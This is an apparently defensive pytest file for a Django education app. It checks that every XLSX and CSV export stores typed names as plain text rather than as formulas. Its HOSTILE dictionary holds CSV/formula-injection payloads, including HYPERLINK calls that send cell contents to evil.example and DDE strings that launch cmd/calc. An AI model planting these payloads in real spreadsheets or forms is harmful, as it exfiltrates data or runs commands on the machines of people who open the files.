"""Every XLSX and CSV export writes what people typed as text, never as a formula.

One parametrized test over every export (a new export is added to `EXPORTS`; the last
test fails when a module writes a spreadsheet and is not listed). Hostile names go into
each field people type — funding source, budget line, organisation, activity, session
title, partnership, school, route, access-log purpose and label — and each file is read
back: with openpyxl (a string cell holding exactly what was typed, no formula but our own
SUMs) and with the csv module (the text behind a quote, no field starting a formula).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from django_scopes import scopes_disabled
from openpyxl import load_workbook

from doorlopend.audit.services import record
from doorlopend.core.tabular import FORMULA_START
from doorlopend.partnerships.models import Partnership
from doorlopend.partnerships.tests.factories import OrganisationFactory, SchoolFactory

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
HOSTILE = {
    "partnership": '=HYPERLINK("http://evil.example/p","samenwerking")',
    "source": LINK,
    "organisation": "=1+2",
    "line": "+cmd|' /C calc'!A0",
    "activity": '-2+3+HYPERLINK("http://evil.example")',
    "session": '=HYPERLINK("http://evil.example/s","sessie")',
    "school": "@SUM(1+1)*cmd|' /C calc'!A0",
    "mbo": "=2+5",
    "route": '=HYPERLINK("http://evil.example/r","route")',
    "sector": '=HYPERLINK("http://evil.example/z","sector")',
    "purpose": '=HYPERLINK("http://evil.example/l","log")',
    "label": "\t=1+1",
    "fullwidth": '＝HYPERLINK("http://evil.example/f")',
}
OUR_FORMULA = re.compile(r"^=SUM\([A-Z]+\d+:[A-Z]+\d+\)$")


def _hostile_partnership(partnership: Partnership) -> None:
    with scopes_disabled():
        partnership.name = HOSTILE["partnership"]
        partnership.save()


def budget(request, partnership) -> tuple[str, bytes, list[str]]:
    from doorlopend.planning.export_budget import budget_xlsx
    from doorlopend.planning.tests.factories import (
        ActivityFactory,
        BudgetLineFactory,
        FundingSourceFactory,
    )

    source = FundingSourceFactory(partnership=partnership, name=HOSTILE["source"])
    school = OrganisationFactory(partnership=partnership, name=HOSTILE["organisation"])
    activity = ActivityFactory(partnership=partnership, title=HOSTILE["activity"])
    BudgetLineFactory(
        source=source,
        organisation=school,
        activity=activity,
        description=HOSTILE["line"],
        planned=Decimal("1250.50"),
    )
    with scopes_disabled():
        data = budget_xlsx(partnership=partnership)
    return "xlsx", data, [HOSTILE[k] for k in ("source", "organisation", "line")]


def reflection(request, partnership) -> tuple[str, bytes, list[str]]:
    from doorlopend.reflection.choices import State
    from doorlopend.reflection.export import results_xlsx
    from doorlopend.reflection.tests.factories import SessionFactory

    _hostile_partnership(partnership)
    session = SessionFactory(
        partnership=partnership, title=HOSTILE["session"], state=State.CLOSED
    )
    with scopes_disabled():
        data = results_xlsx(session)
    return "xlsx", data, [HOSTILE["session"], HOSTILE["partnership"]]


def doorstroom(request, partnership) -> tuple[str, bytes, list[str]]:
    from doorlopend.transitions.export import figures_xlsx
    from doorlopend.transitions.tests.figures_helpers import make, school, started

    request.getfixturevalue("settings").TRANSITIONS_MIN_CELL = 3
    _hostile_partnership(partnership)
    vo = school(partnership, HOSTILE["school"])
    mbo = school(partnership, HOSTILE["mbo"], kind="mbo")
    make(
        partnership,
        12,
        sending_organisation=vo,
        receiving_organisation=mbo,
        # From the schools' import files: a sector and a leerroute's name.
        sector=HOSTILE["sector"],
        route_kind="dlr",
        route_name=HOSTILE["route"],
        **started(),
    )
    with scopes_disabled():
        data = figures_xlsx(partnership=partnership, cohort=2025)
    keys = ("partnership", "school", "mbo", "sector", "route")
    return "xlsx", data, [HOSTILE[k] for k in keys]


def _route(partnership):
    from doorlopend.partnerships.tests.factories import RegisterEntryFactory
    from doorlopend.routes.tests.factories import LeerrouteFactory, vo_school

    entry = RegisterEntryFactory(
        name=HOSTILE["school"], education_structure="VMBO", vestiging="00"
    )
    location = vo_school(partnership, register_entry=entry)
    return LeerrouteFactory(
        partnership=partnership, name=HOSTILE["route"], vmbo_locations=[location]
    )


def duo_csv(request, partnership) -> tuple[str, bytes, list[str]]:
    from doorlopend.routes.duo import duo_csv as build

    with scopes_disabled():
        data = build(_route(partnership))
    return "csv", data, [HOSTILE["school"], HOSTILE["route"]]


def duo_xlsx(request, partnership) -> tuple[str, bytes, list[str]]:
    from doorlopend.routes.duo import duo_xlsx as build

    with scopes_disabled():
        data = build(_route(partnership))
    return "xlsx", data, [HOSTILE["school"], HOSTILE["route"]]


def access_log(request, partnership) -> tuple[str, bytes, list[str]]:
    member_of = request.getfixturevalue("member_of")
    vo = SchoolFactory(partnership=partnership, kind="vo", name=HOSTILE["school"])
    officer = member_of(partnership, "privacy_officer", organisation=vo)
    record(
        actor=officer,
        action="export",
        objects=[vo],
        purpose=HOSTILE["purpose"],
        label=HOSTILE["label"],
        partnership=partnership,
        organisation=vo,
    )
    record(
        actor=officer,
        action="view",
        objects=[vo],
        purpose=HOSTILE["fullwidth"],
        partnership=partnership,
        organisation=vo,
    )
    client = request.getfixturevalue("client")
    client.force_login(officer)
    url = reverse("transitions:privacy_log_export", args=[partnership.slug, vo.pk])
    response = client.get(url)
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    texts = [HOSTILE["purpose"], HOSTILE["label"], HOSTILE["fullwidth"]]
    return "csv", data, texts


def programme(request, partnership) -> tuple[str, bytes, list[str]]:
    from doorlopend.programme.exports import programme_xlsx
    from doorlopend.programme.tests.factories import (
        AssignmentPairFactory,
        ItemRatingFactory,
        ProgrammeItemFactory,
    )

    school = OrganisationFactory(partnership=partnership, name=HOSTILE["organisation"])
    item = ProgrammeItemFactory(
        programme__partnership=partnership, title=HOSTILE["activity"]
    )
    with scopes_disabled():
        item.organisations.add(school)
    ItemRatingFactory(item=item, why=HOSTILE["purpose"])
    AssignmentPairFactory(programme=item.programme, criteria=HOSTILE["line"])
    with scopes_disabled():
        data = programme_xlsx(item.programme)
    keys = ("activity", "organisation", "purpose", "line")
    return "xlsx", data, [HOSTILE[k] for k in keys]


EXPORTS: dict[str, Callable] = {
    "planning.export_budget": budget,
    "reflection.export": reflection,
    "transitions.export": doorstroom,
    "routes.duo (csv)": duo_csv,
    "routes.duo (xlsx)": duo_xlsx,
    "transitions.views.privacy": access_log,
    "programme.exports": programme,
}


def _xlsx_cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _assert_xlsx_safe(data: bytes, texts: list[str]) -> None:
    cells = _xlsx_cells(data)
    for text in texts:
        holding = [c for c in cells if c.value == text]
        assert holding, f"{text!r} is in no cell as typed"
        for cell in holding:
            assert cell.data_type == "s", (cell.coordinate, cell.data_type)
            # Typing over the cell in Excel or LibreOffice keeps it text too.
            assert cell.quotePrefix, cell.coordinate
    for cell in cells:
        if cell.data_type == "f":
            assert OUR_FORMULA.match(str(cell.value)), (cell.coordinate, cell.value)


def _assert_csv_safe(data: bytes, texts: list[str]) -> None:
    fields = [
        field
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";")
        for field in row
    ]
    for text in texts:
        assert f"'{text}" in fields, f"{text!r} is not written behind a quote"
    assert not [f for f in fields if f and f[0] in FORMULA_START]


@pytest.mark.parametrize("build", EXPORTS.values(), ids=EXPORTS.keys())
def test_typed_text_is_written_as_text_in_every_export(build, request, partnership):
    kind, data, texts = build(request, partnership)
    if kind == "xlsx":
        _assert_xlsx_safe(data, texts)
    else:
        _assert_csv_safe(data, texts)


# Files that are no export: written for the import and deleted once read, never opened by
# a person. Their values must arrive exactly as sent (a name may start with "=").
NOT_EXPORTS = {
    "api/batches.py": "an API batch, handed to the pupil import as its CSV",
}


def test_every_spreadsheet_writer_is_in_the_test():
    """A module that writes XLSX or CSV goes through `core.xlsx` / `core.tabular` (never
    openpyxl or the csv writer itself) and is listed in `EXPORTS` above."""
    root = Path(__file__).resolve().parents[2] / "doorlopend"
    core = {root / "core" / "xlsx.py", root / "core" / "tabular.py"}
    core |= {root / name for name in NOT_EXPORTS}
    writers, users = [], set()
    for path in root.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts or path in core:
            continue
        source = path.read_text()
        if re.search(r"\bWorkbook\(|csv\.(writer|DictWriter)\(|xlsxwriter", source):
            writers.append(str(path.relative_to(root)))
        if re.search(r"doorlopend\.core(\.| import )(xlsx|tabular)\b", source):
            users.add(".".join(path.relative_to(root).with_suffix("").parts))
    assert writers == []
    listed = {name.split(" ")[0] for name in EXPORTS}
    assert users == listed
